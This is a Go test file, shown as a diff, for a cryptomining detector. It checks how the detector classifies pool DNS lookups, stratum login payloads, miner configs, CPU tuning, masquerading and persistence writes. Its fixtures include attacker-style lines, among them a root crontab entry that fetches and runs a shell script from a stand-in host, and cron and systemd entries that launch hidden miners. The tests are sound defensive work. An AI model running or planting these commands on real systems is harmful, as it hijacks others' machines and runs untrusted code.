@@ -1,0 +1,348 @@
+package classify
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/cryptochain-otel/cryptochain/processor/cryptochainprocessor/internal/evidence"
+)
+
+func TestPool(t *testing.T) {
+	c := newC(t)
+	q := &evidence.Event{Name: evidence.EventDNSQuery, PID: 1, DNSName: "gulf.moneroocean.stream"}
+	got := c.Classify(q)
+	require.True(t, has(got, "pool/strong/pool_domain"), "%v", summary(got))
+	assert.Equal(t, "gulf.moneroocean.stream", got[0].Endpoint)
+	assert.Contains(t, got[0].Source, "moneroocean.stream")
+
+	assert.Empty(t, c.Classify(&evidence.Event{Name: evidence.EventDNSQuery, DNSName: "moneroocean.stream.example.org"}))
+	assert.Empty(t, c.Classify(&evidence.Event{Name: evidence.EventDNSQuery, DNSName: "example.org"}))
+	assert.True(t, has(c.Classify(&evidence.Event{Name: evidence.EventDNSQuery, DNSName: "POOL.SupportXMR.com."}), "pool/strong/pool_domain"))
+
+	// Before any answer, a connect to 443 of that address is nothing; 3333 is weak.
+	conn := &evidence.Event{Name: evidence.EventConnect, Address: "203.0.113.9", Port: 443, Transport: "tcp"}
+	assert.Empty(t, c.Classify(conn))
+	weak := c.Classify(&evidence.Event{Name: evidence.EventConnect, Address: "203.0.113.10", Port: 3333, Transport: "tcp"})
+	assert.Equal(t, []string{"pool/weak/stratum_port"}, summary(weak))
+
+	// A CNAME chain through a pool domain maps every answered address.
+	ans := &evidence.Event{Name: evidence.EventDNSAnswer, DNSName: "innocent.example.com",
+		DNSCNAMEs: []string{"edge.cdn.example.net", "xmr-eu1.nanopool.org"}, DNSAnswers: []string{"203.0.113.9", "2001:db8::9"}}
+	assert.True(t, has(c.Classify(ans), "pool/strong/pool_domain"))
+	assert.Equal(t, 2, c.PassiveDNSLen())
+	got = c.Classify(conn)
+	require.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
+	assert.Equal(t, "nanopool.org:443", got[0].Endpoint)
+	got = c.Classify(&evidence.Event{Name: evidence.EventConnect, Address: "2001:db8:0::9", Port: 14444})
+	assert.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
+	got = c.Classify(&evidence.Event{Name: evidence.EventConnect, Address: "::ffff:203.0.113.9", Port: 80, Result: "error", Failed: true})
+	require.Len(t, got, 1)
+	assert.True(t, got[0].Failed)
+
+	// An answer for an unrelated name maps nothing.
+	c.Classify(&evidence.Event{Name: evidence.EventDNSAnswer, DNSName: "example.com", DNSAnswers: []string{"198.51.100.1"}})
+	assert.Equal(t, 2, c.PassiveDNSLen())
+}
+
+func TestPoolLearnedFromArgv(t *testing.T) {
+	c := newC(t)
+	c.Classify(exec("/tmp/x", "-o", "stratum+tcp://private-pool.example.net:3333", "-o", "stratum+ssl://198.51.100.77:443"))
+	assert.True(t, has(c.Classify(&evidence.Event{Name: evidence.EventDNSQuery, DNSName: "private-pool.example.net"}), "pool/strong/pool_domain"))
+	got := c.Classify(&evidence.Event{Name: evidence.EventConnect, Address: "198.51.100.77", Port: 443})
+	require.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
+	assert.Equal(t, "198.51.100.77:443", got[0].Endpoint)
+	// proxy of a miner
+	c.Classify(exec("/tmp/x", "-o", "pool.supportxmr.com:443", "-x", "socks5://192.0.2.50:1080"))
+	assert.True(t, has(c.Classify(&evidence.Event{Name: evidence.EventConnect, Address: "192.0.2.50", Port: 1080}), "pool/strong/pool_address"))
+}
+
+func TestPayload(t *testing.T) {
+	c := newC(t)
+	login := `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"` + xmr + `.w1","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0","algo":["rx/0","cn/r"]}}` + "\n"
+	for _, tc := range []struct {
+		name    string
+		payload string
+		wallet  string
+	}{
+		{"xmrig login", login, xmr},
+		{"xmrig login truncated at 256", login[:256], xmr},
+		{"subscribe", `{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}` + "\n", ""},
+		{"authorize after subscribe", `{"id":1,"method":"mining.subscribe","params":[]}` + "\n" + `{"id":2,"method":"mining.authorize","params":["` + eth + `.rig","x"]}`, ""},
+		{"eth_submitLogin", `{"worker": "eth1.0", "jsonrpc": "2.0", "params": ["` + eth + `", "x"], "id": 1, "method": "eth_submitLogin"}`, eth},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := c.Classify(&evidence.Event{Name: evidence.EventPayload, Address: "192.0.2.1", Port: 443, Payload: tc.payload})
+			require.True(t, has(got, "miner/strong/stratum_login"), "%v", summary(got))
+			require.True(t, has(got, "pool/strong/stratum_payload"), "%v", summary(got))
+			assert.Equal(t, "192.0.2.1:443", got[1].Endpoint)
+			if tc.wallet != "" {
+				assert.Equal(t, tc.wallet, got[0].Wallet)
+			}
+		})
+	}
+	for _, p := range []string{
+		`{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}`,
+		`{"jsonrpc":"2.0","method":"login","params":{"username":"alice","password":"x"},"id":1}`,
+		"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n",
+		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
+		`{"method":"mining.subscribe"`, // would match: method alone is mining-only
+	}[:4] {
+		assert.Empty(t, c.Classify(&evidence.Event{Name: evidence.EventPayload, Address: "192.0.2.1", Port: 443, Payload: p}), p)
+	}
+}
+
+func TestPersistence(t *testing.T) {
+	c := newC(t)
+	fw := func(path, op, content string, failed bool) *evidence.Event {
+		return &evidence.Event{Name: evidence.EventFileWrite, PID: 7, Exe: "/usr/bin/bash", Path: path, Op: op, Content: content, Failed: failed}
+	}
+	for _, tc := range []struct {
+		name string
+		ev   *evidence.Event
+		kind string
+		cmd  string
+	}{
+		{"etc crontab", fw("/etc/crontab", "open", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root /tmp/.x/run -o stratum+tcp://p.example:3333\n", false), "cron", "/tmp/.x/run -o stratum+tcp://p.example:3333"},
+		{"cron.d", fw("/etc/cron.d/sys", "create", "@reboot root /var/tmp/kdevtmpfsi\n", false), "cron", "/var/tmp/kdevtmpfsi"},
+		{"debian spool", fw("/var/spool/cron/crontabs/root", "rename", "* * * * * curl -s http://x.example/a.sh | sh\n", false), "cron", "curl -s http://x.example/a.sh | sh"},
+		{"rhel spool", fw("/var/spool/cron/root", "open", "*/10 * * * * /root/.cache/upd >/dev/null 2>&1\n", false), "cron", "/root/.cache/upd >/dev/null 2>&1"},
+		{"alpine", fw("/etc/crontabs/root", "open", "", false), "cron", ""},
+		{"cron.hourly script", fw("/etc/cron.hourly/upd", "create", "#!/bin/sh\n/tmp/x &\nexit 0\n", false), "cron", "/tmp/x &"},
+		{"anacrontab", fw("/etc/anacrontab", "open", "1 5 cron.daily /tmp/x\n", false), "anacron", "/tmp/x"},
+		{"at spool", fw("/var/spool/cron/atjobs/a0001", "create", "#!/bin/sh\ncd /tmp\n/tmp/miner\n", false), "at", "/tmp/miner"},
+		{"system unit", fw("/etc/systemd/system/sysupd.service", "create", "[Unit]\nDescription=x\n[Service]\nExecStart=-/usr/local/bin/sysupd --donate-level 1\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", false), "systemd", "/usr/local/bin/sysupd --donate-level 1"},
+		{"user unit", fw("/home/bob/.config/systemd/user/u.service", "create", "", false), "systemd", ""},
+		{"timer", fw("/etc/systemd/system/u.timer", "create", "[Timer]\nOnCalendar=*:0/5\nUnit=u.service\n", false), "systemd", "unit u.service"},
+		{"wants symlink", &evidence.Event{Name: evidence.EventFileWrite, Exe: "/usr/bin/systemctl", Path: "/etc/systemd/system/multi-user.target.wants/u.service", Op: "symlink", SourcePath: "/etc/systemd/system/u.service"}, "systemd", "unit u.service"},
+		{"rc.local", fw("/etc/rc.local", "open", "#!/bin/sh -e\n/opt/x/run &\nexit 0\n", false), "rc", "/opt/x/run &"},
+		{"init.d chmod", fw("/etc/init.d/upd", "chmod", "", false), "rc", ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := c.Classify(tc.ev)
+			require.Len(t, got, 1, "%v", summary(got))
+			e := got[0]
+			assert.Equal(t, evidence.Persistence, e.Group)
+			assert.Equal(t, evidence.Strong, e.Strength)
+			assert.Equal(t, tc.kind, e.Kind)
+			assert.Equal(t, tc.ev.Path, e.Path)
+			assert.Equal(t, tc.cmd, e.Command)
+		})
+	}
+	failed := c.Classify(fw("/etc/cron.d/x", "create", "", true))
+	require.Len(t, failed, 1)
+	assert.True(t, failed[0].Failed)
+
+	// Not persistence.
+	for _, ev := range []*evidence.Event{
+		fw("/etc/cron.d/x", "unlink", "", false),
+		fw("/etc/cron.deny.bak", "open", "", false),
+		fw("/var/log/cron.log", "open", "", false),
+		{Name: evidence.EventFileWrite, Exe: "/usr/bin/dpkg", Path: "/lib/systemd/system/nginx.service", Op: "rename"},
+		{Name: evidence.EventFileWrite, Exe: "/usr/lib/systemd/systemd", Path: "/run/systemd/system/session-1.scope", Op: "create"},
+		{Name: evidence.EventFileOpen, Path: "/etc/crontab", Op: "open"},
+	} {
+		assert.Empty(t, c.Classify(ev), ev.Path)
+	}
+}
+
+func TestCrontabExec(t *testing.T) {
+	c := newC(t)
+	for _, tc := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"crontab", "/tmp/cron.txt"}, "persistence/strong/crontab"},
+		{[]string{"crontab", "-"}, "persistence/strong/crontab"},
+		{[]string{"crontab", "-u", "root", "/tmp/c"}, "persistence/strong/crontab"},
+		{[]string{"crontab", "-e"}, "persistence/weak/crontab"},
+		{[]string{"crontab", "-l"}, ""},
+		{[]string{"crontab", "-u", "bob", "-l"}, ""},
+		{[]string{"crontab", "-r"}, ""},
+	} {
+		got := c.Classify(exec(tc.args...))
+		if tc.want == "" {
+			assert.Empty(t, got, "%v", tc.args)
+		} else {
+			assert.Equal(t, []string{tc.want}, summary(got), "%v", tc.args)
+		}
+	}
+	// A failed crontab exec is recorded as failed.
+	ev := exec("crontab", "/tmp/c")
+	ev.Name, ev.Failed = evidence.EventExecFailed, true
+	got := c.Classify(ev)
+	require.Len(t, got, 1)
+	assert.True(t, got[0].Failed)
+}
+
+func TestOptimization(t *testing.T) {
+	c := newC(t)
+	fw := func(name, path string, failed bool) *evidence.Event {
+		return &evidence.Event{Name: name, Path: path, Op: "open", Failed: failed}
+	}
+	sys := func(name, value string) *evidence.Event {
+		return &evidence.Event{Name: evidence.EventSysctlWrite, SysctlName: name, SysctlValue: value, Path: "/proc/sys/" + strings.ReplaceAll(name, ".", "/")}
+	}
+	for _, tc := range []struct {
+		name string
+		ev   *evidence.Event
+		want string
+	}{
+		{"msr write", fw(evidence.EventFileWrite, "/dev/cpu/0/msr", false), "optimization/strong/msr"},
+		{"msr read-only open", fw(evidence.EventFileOpen, "/dev/cpu/3/msr", false), "optimization/strong/msr"},
+		{"msr refused", fw(evidence.EventFileWrite, "/dev/cpu/1/msr", true), "optimization/strong/msr"},
+		{"allow_writes", fw(evidence.EventFileWrite, "/sys/module/msr/parameters/allow_writes", false), "optimization/strong/msr"},
+		{"wrmsr", exec("wrmsr", "-a", "0x1a4", "0xf"), "optimization/strong/msr"},
+		{"modprobe allow_writes", exec("modprobe", "msr", "allow_writes=on"), "optimization/strong/msr"},
+		{"modprobe msr", exec("modprobe", "msr"), "optimization/weak/msr"},
+		{"sysctl hugepages", sys("vm.nr_hugepages", "1280"), "optimization/strong/hugepages"},
+		{"proc hugepages write", fw(evidence.EventFileWrite, "/proc/sys/vm/nr_hugepages", false), "optimization/strong/hugepages"},
+		{"sysfs hugepages", fw(evidence.EventFileWrite, "/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages", false), "optimization/strong/hugepages"},
+		{"1GB per node", fw(evidence.EventFileWrite, "/sys/devices/system/node/node0/hugepages/hugepages-1048576kB/nr_hugepages", false), "optimization/strong/hugepages"},
+		{"sysctl exec", exec("sysctl", "-w", "vm.nr_hugepages=128"), "optimization/strong/hugepages"},
+		{"drop caches", sys("vm.drop_caches", "3"), "optimization/strong/drop_caches"},
+		{"drop caches file", fw(evidence.EventFileWrite, "/proc/sys/vm/drop_caches", false), "optimization/strong/drop_caches"},
+		{"governor", fw(evidence.EventFileWrite, "/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", false), "optimization/strong/cpu_governor"},
+		{"boost", fw(evidence.EventFileWrite, "/sys/devices/system/cpu/cpufreq/boost", false), "optimization/strong/cpu_governor"},
+		{"cpupower", exec("cpupower", "frequency-set", "-g", "performance"), "optimization/strong/cpu_governor"},
+		{"nmi watchdog", sys("kernel.nmi_watchdog", "0"), "optimization/strong/nmi_watchdog"},
+		{"nmi sysctl exec", exec("sysctl", "kernel.nmi_watchdog=0"), "optimization/strong/nmi_watchdog"},
+		{"pkill miner", exec("pkill", "-9", "-f", "xmrig"), "optimization/strong/kill_miner"},
+		{"killall miners", exec("killall", "-9", "kdevtmpfsi", "kinsing"), "optimization/strong/kill_miner"},
+		{"kill event miner", &evidence.Event{Name: evidence.EventKill, KillTargetPID: 5, KillSignal: 9, KillTargetName: "xmrig"}, "optimization/strong/kill_miner"},
+		{"kill event other", &evidence.Event{Name: evidence.EventKill, KillTargetPID: 5, KillSignal: 9, KillTargetName: "nginx"}, "optimization/weak/kill"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := c.Classify(tc.ev)
+			assert.Equal(t, []string{tc.want}, summary(got))
+			if tc.ev.Failed {
+				assert.True(t, got[0].Failed)
+			}
+		})
+	}
+	for _, ev := range []*evidence.Event{
+		fw(evidence.EventFileOpen, "/proc/sys/vm/drop_caches", false), // a read
+		sys("vm.nr_hugepages", "0"),
+		sys("kernel.nmi_watchdog", "1"),
+		sys("vm.swappiness", "10"),
+		exec("sysctl", "-a"),
+		exec("sysctl", "vm.nr_hugepages"),
+		exec("modprobe", "nf_conntrack"),
+		exec("rdmsr", "0x1a4"),
+		exec("pkill", "-HUP", "nginx"),
+		{Name: evidence.EventKill, KillTargetPID: 5, KillSignal: 0, KillTargetName: "xmrig"},
+		fw(evidence.EventFileOpen, "/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", false),
+	} {
+		assert.Empty(t, c.Classify(ev), "%+v", ev)
+	}
+}
+
+func TestBehaviour(t *testing.T) {
+	c := newC(t)
+	fpu := func(nd, n int64) *evidence.Event {
+		return &evidence.Event{Name: evidence.EventFPURounding, FPUMXCSR: 0x5f80, FPUNonDefault: nd, FPUSamples: n}
+	}
+	assert.Equal(t, []string{"miner/strong/randomx_fpu"}, summary(c.Classify(fpu(300, 400))))
+	assert.Equal(t, []string{"miner/strong/randomx_fpu"}, summary(c.Classify(fpu(40, 0))))
+	assert.Empty(t, c.Classify(fpu(3, 400)))   // too few
+	assert.Empty(t, c.Classify(fpu(400, 400))) // stuck in one mode: scientific code set once
+	assert.Empty(t, c.Classify(fpu(20, 4000))) // rare
+
+	cfg := `{"autosave":true,"cpu":{"enabled":true,"huge-pages":true},"randomx":{"1gb-pages":true,"wrmsr":true},` +
+		`"donate-level":1,"pools":[{"url":"pool.hashvault.pro:443","user":"` + xmr + `","pass":"x","tls":true}]}`
+	got := c.Classify(&evidence.Event{Name: evidence.EventConfigFile, Path: "/tmp/.x/config.json", Content: cfg})
+	require.True(t, has(got, "miner/strong/miner_config"), "%v", summary(got))
+	assert.True(t, has(got, "optimization/weak/config_tuning"))
+	assert.Equal(t, xmr, got[0].Wallet)
+	assert.Equal(t, "pool.hashvault.pro:443", got[0].Endpoint)
+	// truncated config still recognised
+	got = c.Classify(&evidence.Event{Name: evidence.EventConfigFile, Path: "/tmp/.x/config.json", Content: cfg[:len(cfg)-30]})
+	assert.True(t, has(got, "miner/strong/miner_config"), "%v", summary(got))
+	// ordinary JSON config is not a miner config
+	assert.Empty(t, c.Classify(&evidence.Event{Name: evidence.EventConfigFile, Path: "/opt/app/config.json", Content: `{"url":"https://api.example.com","timeout":3}`}))
+
+	// masquerade
+	for _, tc := range []struct {
+		name string
+		ev   *evidence.Event
+	}{
+		{"memfd", &evidence.Event{Name: evidence.EventExec, Exe: "/memfd:x (deleted)", ExeMemfd: true, Args: []string{"x"}}},
+		{"deleted", &evidence.Event{Name: evidence.EventExec, Exe: "/usr/local/bin/x", ExeDeleted: true, Args: []string{"x"}}},
+		{"dev shm", exec("/dev/shm/x")},
+		{"hidden dir", exec("/root/.configs/x")},
+		{"argv0 differs", &evidence.Event{Name: evidence.EventExec, Exe: "/usr/local/bin/xm", Filename: "/usr/local/bin/xm", Args: []string{"nginx: worker process"}}},
+		{"kthread name", &evidence.Event{Name: evidence.EventExec, Exe: "/usr/local/bin/x", Filename: "/usr/local/bin/x", Args: []string{"[kthreadd]"}}},
+		{"kworker name", &evidence.Event{Name: evidence.EventExec, Exe: "/usr/local/bin/kw", Filename: "/usr/local/bin/kw", Args: []string{"kworker/0:1"}}},
+		{"rename", &evidence.Event{Name: evidence.EventRename, CommOld: "x", Comm: "kworker/1:2"}},
+	} {
+		got := c.Classify(tc.ev)
+		assert.True(t, has(got, "miner/weak/masquerade"), "%s: %v", tc.name, summary(got))
+		assert.False(t, strongIn(got, evidence.Miner), tc.name)
+	}
+	for _, ev := range []*evidence.Event{
+		exec("/opt/kworker-metrics/bin/kworker-metrics"),
+		exec("/home/bob/.local/bin/black"),
+		{Name: evidence.EventExec, Exe: "/usr/bin/mawk", Filename: "/usr/bin/awk", Args: []string{"awk", "-F:"}},
+		{Name: evidence.EventExec, Exe: "/usr/bin/bash", Filename: "/bin/bash", Args: []string{"-bash"}},
+		{Name: evidence.EventExec, Exe: "/usr/bin/python3.12", Filename: "/usr/bin/python3", Args: []string{"python3"}},
+		{Name: evidence.EventRename, CommOld: "java", Comm: "C2 CompilerThre"},
+	} {
+		assert.Empty(t, c.Classify(ev), "%+v", ev)
+	}
+}
+
+func TestEnv(t *testing.T) {
+	c := newC(t)
+	ev := exec("/usr/local/bin/entrypoint")
+	ev.Env = map[string]string{"POOL_URL": "stratum+tcp://pool.example.net:3333", "PATH": "/usr/bin", "HOME": "/root"}
+	got := c.Classify(ev)
+	assert.True(t, has(got, "miner/strong/env"), "%v", summary(got))
+	assert.True(t, has(got, "miner/weak/env_name"))
+	ev.Env = map[string]string{"ARGS": "-u " + xmr + " --tls"}
+	assert.Equal(t, []string{"miner/strong/env"}, summary(c.Classify(ev)))
+	ev.Env = map[string]string{"WALLET": eth}
+	assert.True(t, has(c.Classify(ev), "miner/strong/env"))
+	ev.Env = map[string]string{"WALLET": "[REDACTED]"}
+	assert.Equal(t, []string{"miner/weak/env_name"}, summary(c.Classify(ev)))
+	ev.Env = map[string]string{"LS_COLORS": strings.Repeat("di=01;34:", 200), "GIT_COMMIT": eth}
+	assert.Empty(t, c.Classify(ev))
+}
+
+func TestConfig(t *testing.T) {
+	_, err := New(Config{ExtraPatterns: []string{"ok", "(unclosed"}})
+	assert.ErrorContains(t, err, "extra_patterns[1]")
+	assert.ErrorContains(t, err, "(unclosed")
+	_, err = New(Config{ExtraPatterns: []string{".*"}})
+	assert.ErrorContains(t, err, "extra_patterns[0]")
+	_, err = New(Config{ExtraPoolDomains: []string{"not a domain"}})
+	assert.ErrorContains(t, err, "extra_pool_domains[0]")
+	_, err = New(Config{PassiveDNSEntries: -1})
+	assert.ErrorContains(t, err, "passive_dns_entries")
+
+	c, err := New(Config{ExtraPatterns: []string{`mypool\.internal:\d+`}, ExtraMinerNames: []string{"Sysmon-Agent"}, ExtraPoolDomains: []string{"corp-pool.example"}, ExtraPersistence: []string{"/etc/profile.d/"}, PassiveDNSEntries: 1})
+	require.NoError(t, err)
+	got := c.Classify(exec("/usr/bin/sysmon-agent", "--target", "mypool.internal:7777"))
+	assert.True(t, has(got, "miner/strong/pattern"), "%v", summary(got))
+	assert.True(t, has(got, "miner/weak/miner_name"), "%v", summary(got))
+	assert.True(t, has(c.Classify(&evidence.Event{Name: evidence.EventDNSQuery, DNSName: "a.corp-pool.example"}), "pool/strong/pool_domain"))
+	assert.True(t, has(c.Classify(&evidence.Event{Name: evidence.EventFileWrite, Path: "/etc/profile.d/x.sh", Op: "create"}), "persistence/strong/custom"))
+	c.Classify(&evidence.Event{Name: evidence.EventDNSAnswer, DNSName: "a.corp-pool.example", DNSAnswers: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3"}})
+	assert.Equal(t, 1, c.PassiveDNSLen(), "bounded")
+}
+
+func TestCommandExecutable(t *testing.T) {
+	for in, want := range map[string]string{
+		"/tmp/.x/run -o stratum+tcp://p:1":            "/tmp/.x/run",
+		"nohup /tmp/x >/dev/null 2>&1 &":              "/tmp/x",
+		"/bin/sh -c '/var/tmp/kdevtmpfsi'":            "/var/tmp/kdevtmpfsi",
+		"cd /tmp; ./x":                                "cd",
+		"HOME=/root nice -n 19 /usr/local/bin/upd":    "/usr/local/bin/upd",
+		"bash /etc/cron.daily/upd.sh":                 "/etc/cron.daily/upd.sh",
+		"":                                            "",
+		"env -i PATH=/usr/bin /opt/miner --threads 2": "/opt/miner",
+	} {
+		assert.Equal(t, want, CommandExecutable(in), in)
+	}
+}
